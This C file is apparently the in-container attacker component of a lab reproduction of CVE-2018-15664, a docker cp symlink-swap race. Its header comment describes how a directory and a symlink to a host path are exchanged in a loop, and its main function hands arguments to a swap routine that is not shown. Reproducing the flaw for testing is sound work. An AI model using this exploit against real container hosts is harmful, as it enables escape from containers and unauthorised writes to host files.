/*
 * CVE-2018-15664, the attacker's in-container part (as in the published PoC, "symlink_swap"): a
 * directory the operator will `docker cp` into, and next to it a symlink to a host path, exchanged
 * atomically with renameat2(RENAME_EXCHANGE) in a tight loop. The daemon resolves the path while it
 * is the directory and writes after it became the symlink, which the host kernel then follows.
 *
 * Usage (inside the container): /attack <dir> <symlink target> [--no-fallback]
 * The target is an absolute path ON THE HOST (the PoC used "/"; the lab names a scratch directory).
 * When RENAME_EXCHANGE is refused (seccomp), the attacker falls back to swapping with three plain
 * renames (non-atomic: the directory is briefly missing), unless --no-fallback.
 * Creates <dir's parent>/.ready once the loop runs; loops for at most 12 s (the manager kills it).
 */
#define _GNU_SOURCE
/* The swap loop (swap_run) is runc-mount-destination-symlink-exchange's too. */
#include "swap.h"

#include <stdio.h>
#include <string.h>

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: %s <dir> <symlink target> [--no-fallback]\n", argv[0]);
    return 2;
  }
  const struct swap_spec s = {
      .dir = argv[1],
      .target = argv[2],
      .fallback = !(argc > 3 && strcmp(argv[3], "--no-fallback") == 0),
      .tolerate = 0, /* the first failed rename ends the loop */
      .step_mkdir = "attack: create the directory",
      .step_symlink = "attack: create the symlink to the host path",
      .step_exchange = "attack: exchange directory and symlink (renameat2 RENAME_EXCHANGE)",
      .step_renames = "attack: swap directory and symlink (three renames)",
  };
  return swap_run(&s);
}
